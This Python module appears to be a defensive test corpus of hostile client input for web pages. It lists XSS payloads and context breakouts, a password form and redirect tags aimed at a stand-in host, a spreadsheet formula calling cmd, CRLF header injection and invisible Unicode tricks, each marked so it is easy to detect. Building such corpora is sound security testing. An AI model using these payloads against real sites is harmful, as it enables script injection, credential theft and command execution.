"""Text that a client may choose and that no page may take for its own: mark-up, script, addresses, what cannot be seen.

Everything that would become an element carries the attribute `data-corpus`, everything that would run says "executed"
in the console: either is easy to look for, in the page or in what a browser complains of.
"""

import re
from collections.abc import Mapping

RUN = "console.error(`executed`)"
MARK = "data-corpus"

MARKUP: Mapping[str, str] = {
    "script": f"<script {MARK}>{RUN}</script>",
    "picture": f"<img {MARK} src=x: onerror={RUN}>",
    "drawing": f"<svg {MARK} onload={RUN}><animate {MARK} onbegin={RUN} attributeName=x dur=1s>",
    "double quote": f'" {MARK}="" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    "single quote": f"' {MARK}='' autofocus onfocus='{RUN}' x='",
    "no quote": f"x {MARK} autofocus onfocus={RUN}",
    "out of a script": f"</script><script {MARK}>{RUN}</script>",
    "out of a style": f"</style><script {MARK}>{RUN}</script>",
    "out of a text area": f"</textarea></select></option></button><script {MARK}>{RUN}</script>",
    "out of a title": f"</title></head><body {MARK} onload={RUN}>",
    "out of a comment": f"--><script {MARK}>{RUN}</script><!--",
    "out of a drawing": f"]]></text></svg><img {MARK} src=x: onerror={RUN}>",
    "link": f'<a {MARK} href="javascript:{RUN}">click</a>',
    "address": f"javascript:{RUN}//",
    "data address": f"data:text/html,<script {MARK}>{RUN}</script>",
    "spaced address": f"java\tscript:{RUN}",
    "form": f'<form {MARK} action="https://elsewhere.example/"><input {MARK} name=password><button {MARK}>go</button>',
    "frame": f'<iframe {MARK} srcdoc="<script>{RUN}</script>"></iframe>',
    "base": f'<base {MARK} href="https://elsewhere.example/">',
    "refresh": f'<meta {MARK} http-equiv=refresh content="0;url=https://elsewhere.example/">',
    "style": f"<style {MARK}>* {{ display: none }}</style><link {MARK} rel=stylesheet href=//elsewhere.example/x.css>",
    "htmx": f"<div {MARK} hx-get=/profile hx-trigger=load hx-on:load={RUN} data-hx-get=/profile></div>",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "escaped already": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img {MARK}&#62;",
    "utf-7": "+ADw-script+AD4-console.error('executed')+ADw-/script+AD4-",
    "json": f'"}}]}}</script><script {MARK}>{RUN}</script>\\u003cscript\\u003e',
    "formula": "=cmd|' /C calc'!A0",
    "new line": f"first\r\nSet-Cookie: x=1\r\n\r\n<script {MARK}>{RUN}</script>",
}
UNSEEN: Mapping[str, str] = {
    "right to left override": "invoice\u202etxt.exe",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "zero width": "or\u200bde\u200crs\u200d.\u2060v1\ufeff",
    "marks": "a\u200eb\u200fc\u061cd",
    "line separator": "first\u2028second\u2029third",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "control": "\x01\x02\x08\x0b\x0c\x7f\x80\x9f",
    "soft hyphen": "pass\u00adword",
    "tags": "hi\U000e0041\U000e0042",
}
# What a JSON body or a database can hold but no UTF-8, and what is merely long.
HUGE = "W" * 3000
BYTES: Mapping[str, bytes] = {
    "invalid utf-8": b"\xff\xfe<script>" + RUN.encode() + b"</script>\xc3",
    "surrogate": b"\xed\xa0\x80\xed\xb0\x80",
    "overlong": b"\xc0\xbcscript\xc0\xbe",
    "nul": b"a\x00b",
    "empty": b"",
    "megabyte": b"<b>" * 300_000,
}
# Direction and width are changed by these; a page may hold them only as their code points.
_UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)


def everything() -> list[str]:
    """Each text of the corpus."""
    return [*MARKUP.values(), *UNSEEN.values(), HUGE]


def polyglot(number: int = 0) -> str:
    """All mark-up in one string, begun at another text each time: what one opens, the next may not close."""
    texts = [*MARKUP.values(), *UNSEEN.values()]
    number %= len(texts)
    return " ".join(texts[number:] + texts[:number])


def unseen_in(html: str) -> list[str]:
    """Characters of the page that a reader cannot see and that change what is read."""
    return sorted({f"U+{ord(found):04X}" for found in _UNSEEN.findall(html)})
